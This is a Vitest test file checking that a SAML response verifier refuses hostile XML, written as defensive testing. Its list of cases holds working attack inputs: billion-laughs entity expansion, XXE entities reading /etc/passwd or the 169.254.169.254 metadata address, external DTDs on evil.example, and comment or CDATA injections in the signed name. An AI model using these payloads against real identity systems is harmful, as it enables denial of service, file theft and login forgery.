// XML that harms whoever parses it, or that means something else to each parser. None of it reaches a library.
import { expect, test } from 'vitest'
import { peekResponse } from '../../sso/saml/peek-response.ts'
import { encode, expected, signedResponse } from '../../sso/saml/test-support/signed-response.ts'
import { verifyResponse } from '../../sso/saml/verify-response.ts'

const xml = signedResponse()
const named = (added: string) => xml.replace('>ann@acme.example<', `>ann@acme.example${added}<`)

const laughs = Array.from({ length: 10 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`).join('')

const attributes = (count: number) => Array.from({ length: count }, (_, i) => ` a${i}=""`).join('')

const harmful: readonly [string, string, string][] = [
  ['a billion laughs', 'has_doctype', `<!DOCTYPE x [<!ENTITY l0 "ha">${laughs}]>${named('&l10;')}`],
  [
    'one long entity, often',
    'has_doctype',
    `<!DOCTYPE x [<!ENTITY a "${'a'.repeat(50_000)}">]>${named('&a;'.repeat(9_000))}`,
  ],
  [
    'a file as an entity',
    'has_doctype',
    `<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>${named('&f;')}`,
  ],
  [
    'an address as an entity',
    'has_doctype',
    `<!DOCTYPE x [<!ENTITY f SYSTEM "http://169.254.169.254/">]>${named('&f;')}`,
  ],
  [
    'a parameter entity',
    'has_doctype',
    `<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/p.dtd">%p;]>${xml}`,
  ],
  ['an external document type', 'has_doctype', `<!DOCTYPE x SYSTEM "http://evil.example/x.dtd">${xml}`],
  ['a document type in small letters', 'has_doctype', `<!doctype x>${xml}`],
  ['a default ID by a document type', 'has_doctype', `<!DOCTYPE x [<!ATTLIST x id ID #IMPLIED>]>${xml}`],
  ['an entity that nobody declared', 'not_xml', named('&evil;')],
  ['an entity like a part of every object', 'not_xml', named('&constructor;')],
  ['a comment in the name', 'has_comment', named('<!-- -->.evil.example')],
  ['an empty comment in the name', 'has_comment', named('<!---->.evil.example')],
  ['a comment in an attribute', 'has_comment', xml.replace('>Engineering<', '>Engineering<!-- x --><')],
  ['a comment in the digest', 'has_comment', xml.replace('<ds:DigestValue>', '<ds:DigestValue><!-- x -->')],
  ['a comment before the response', 'has_comment', `<!-- x -->${xml}`],
  ['an instruction in the name', 'has_instruction', named('<?x?>.evil.example')],
  [
    'an instruction before the response',
    'has_instruction',
    `<?xml-stylesheet href="http://evil.example"?>${xml}`,
  ],
  ['a second declaration', 'has_instruction', `<?xml version="1.0"?><?xml version="1.0"?>${xml}`],
  ['a declaration of XML 1.1', 'has_instruction', `<?xml version="1.1"?>${xml}`],
  ['a section of CDATA in the name', 'has_cdata', named('<![CDATA[.evil.example]]>')],
  ['another encoding', 'not_xml', `<?xml version="1.0" encoding="UTF-7"?>${xml}`],
  ['a second root', 'not_xml', `${xml}${xml}`],
  ['text after the root', 'not_xml', `${xml}x`],
  ['an open element', 'not_xml', xml.slice(0, -1)],
  ['elements that cross', 'not_xml', xml.replace('</saml:Subject><saml:Conditions', '<saml:Conditions')],
  ['an attribute twice', 'not_xml', xml.replace('Version="2.0"', 'Version="2.0" Version="2.0"')],
  [
    'an attribute twice by two prefixes',
    'not_xml',
    xml.replace('Version="2.0"', 'Version="2.0" xmlns:a="u" xmlns:b="u" a:x="" b:x=""'),
  ],
  ['an attribute without quotes', 'not_xml', xml.replace('Version="2.0"', 'Version=2.0')],
  ['an attribute with an element in it', 'not_xml', xml.replace('Version="2.0"', 'Version="2.0" a="<b>"')],
  ['a prefix that nobody declared', 'not_xml', xml.replace('<samlp:Status>', '<evil:x/><samlp:Status>')],
  [
    'another meaning of the prefix xml',
    'not_xml',
    xml.replace('Version="2.0"', 'Version="2.0" xmlns:xml="urn:x"'),
  ],
  [
    'another prefix for the namespace of xml',
    'not_xml',
    xml.replace('Version="2.0"', 'Version="2.0" xmlns:x="http://www.w3.org/XML/1998/namespace"'),
  ],
  ['a character that XML forbids', 'not_xml', named('\u0000')],
  ['a reference to a character that XML forbids', 'not_xml', named('&#0;')],
  ['a reference to half a character', 'not_xml', named('&#xD800;')],
  ['a reference beyond all characters', 'not_xml', named('&#x110000;')],
  [
    'a thousand levels',
    'too_complex',
    xml.replace('<samlp:Status>', `${'<a>'.repeat(1_000)}${'</a>'.repeat(1_000)}<samlp:Status>`),
  ],
  [
    'ten thousand elements',
    'too_complex',
    xml.replace('<samlp:Status>', `${'<a/>'.repeat(10_000)}<samlp:Status>`),
  ],
  ['a thousand attributes', 'too_complex', xml.replace('Version="2.0"', `Version="2.0"${attributes(1_000)}`)],
  [
    'a hundred elements with thirty attributes each',
    'too_complex',
    xml.replace('<samlp:Status>', `${`<a${attributes(30)}/>`.repeat(100)}<samlp:Status>`),
  ],
  ['more than 256 KB', 'too_large', xml.replace('Engineering', 'x'.repeat(256 * 1024))],
  ['many megabytes', 'too_large', 'x'.repeat(8_000_000)],
]

test('the genuine response is accepted', async () => {
  expect(await verifyResponse(encode(xml), expected)).toMatchObject({ nameId: 'ann@acme.example' })
})

test.each(harmful)('%s is refused with %s', async (_, code, text) => {
  await expect(verifyResponse(encode(text), expected)).rejects.toMatchObject({ code })
  expect(() => peekResponse(encode(text))).toThrow(code)
})

// A pattern that tries every blank as the last one would need minutes for these.
test.each([
  [
    'the issuer',
    'wrong_issuer',
    (blanks: string) => xml.replace('https://idp.example/saml<', `a${blanks}b<`),
  ],
  ['the name of the subject', 'signature_invalid', (blanks: string) => named(`${blanks}b`)],
])('200,000 blanks in %s take no time', async (_, code, plant) => {
  const text = encode(plant(' '.repeat(200_000)))
  await expect(verifyResponse(text, expected)).rejects.toMatchObject({ code })
  expect(peekResponse(text).issuer).toBeDefined()
})

test.each([
  ['nothing', ''],
  ['no base64', '<samlp:Response/>'],
  ['base64 for addresses', 'PHg-PC94Pg__'],
  ['base64 with something after it', `${encode(xml)}!`],
])('%s is refused', async (_, encoded) => {
  await expect(verifyResponse(encoded, expected)).rejects.toMatchObject({ code: 'not_base64' })
})

test.each([
  ['UTF-16', Buffer.from(`\uFEFF${xml}`, 'utf16le')],
  ['bytes that are no UTF-8', Buffer.concat([Buffer.from(xml), Buffer.from([0xc0, 0x80])])],
])('%s is refused', async (_, bytes) => {
  await expect(verifyResponse(bytes.toString('base64'), expected)).rejects.toMatchObject({ code: 'not_xml' })
})
